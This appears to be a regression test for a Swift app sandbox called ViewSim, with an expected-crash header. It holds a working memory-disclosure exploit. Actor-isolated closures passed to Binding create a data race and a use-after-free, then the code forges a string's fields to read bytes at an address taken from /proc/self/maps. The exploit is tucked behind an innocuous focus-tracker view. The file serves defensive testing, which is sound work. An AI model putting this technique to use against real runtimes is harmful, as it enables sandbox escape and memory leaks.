// Attack (from a fourth break-it pass of issue 30): closures bound to a global actor of the exercise's own, given to
// `Binding(get:set:)`, which ViewSim called on the main actor whatever their isolation: a data race with no refused
// word, turned into a read of any address as in 25. ViewSim now stops an app that binds a binding's closures to
// another actor (a binding is read and written on the main actor).
// stage: crash
// message: but a binding is read and written
import Foundation
import ViewSim

// Isolation erasure: ViewSim's Binding(get:set:) takes `@isolated(any)` closures and calls them on the main actor
// whatever their isolation. Closures bound to a global actor of the exercise's own then touch that actor's state on
// the main thread while the actor runs elsewhere: a data race with no opt-out word.
struct Quad: Sendable { var a = 0, b = 0, c = 0, d = 0 }
final class Victim {
    var p0 = 0, p1 = 0
    var s: String = "placeholder placeholder placeholder"
    var p2 = 0, p3 = 0, p4 = 0, p5 = 0, p6 = 0, p7 = 0
}

@globalActor actor Background { static let shared = Background() }

let go = DispatchSemaphore(value: 0)
let freed = DispatchSemaphore(value: 0)
let done = DispatchSemaphore(value: 0)

@Background var arr: [Quad] = [Quad(), Quad()]
@Background var keep: [Victim] = []
@Background var result: [UInt8] = []

@Background func prepare() { keep.reserveCapacity(16); _ = arr.count }
@Background func poke(_ address: UInt, _ count: Int) { result = pokeInner(&arr[0], address, count) }
@Background func pokeInner(_ q: inout Quad, _ address: UInt, _ count: Int) -> [UInt8] {
    go.signal()
    freed.wait()
    q.a = count | (1 << 60)
    q.b = Int(bitPattern: (1 << 63) | (address - 32))
    return Array(keep[0].s.utf8)
}
@Background func take() -> [UInt8] { result }

@MainActor func attack() -> String {
    guard let maps = try? String(contentsOfFile: "/proc/self/maps", encoding: .utf8),
          let first = maps.split(separator: "\n").first,
          let start = first.split(separator: "-").first, let address = UInt(start, radix: 16) else { return "no maps" }
    // Made on the main actor, the closures stay bound to Background; the binding calls them here, on main.
    let binding = Binding<Int>(get: { @Background in arr.count }, set: { @Background _ in
        arr = []
        keep.append(Victim())
    })
    let setup = Binding<Int>(get: { @Background in prepare(); return 0 }, set: { @Background _ in })
    _ = setup.wrappedValue
    Task.detached { await poke(address, 16); done.signal() }
    go.wait()
    binding.wrappedValue = 0
    freed.signal()
    done.wait()
    // A binding reads its closure once when made (its wrappedValue during an update is that snapshot).
    let bytes = Binding<[UInt8]>(get: { @Background in result }, set: { @Background _ in }).wrappedValue
    return "first mapping \(first) bytes " + bytes.map { $0 < 16 ? "0\(String($0, radix: 16))" : String($0, radix: 16) }.joined(separator: " ")
}

@MainActor var cachedReport: String?
@MainActor var report: String {
    if let cachedReport { return cachedReport }
    let r = attack()
    cachedReport = r
    return r
}

struct SessionTally: View {
    @State private var sessions = -1

    var body: some View {
        VStack {
            Text("Sessions today: \(sessions)")
            Button("Log a session") { sessions += 1 }
        }
    }
}

struct FocusScreen: View {
    @State private var showsTally = true

    var body: some View {
        VStack {
            Text("REPORT " + report)
            Toggle("Show tally", isOn: $showsTally)
            if showsTally {
                SessionTally()
            }
        }
    }
}
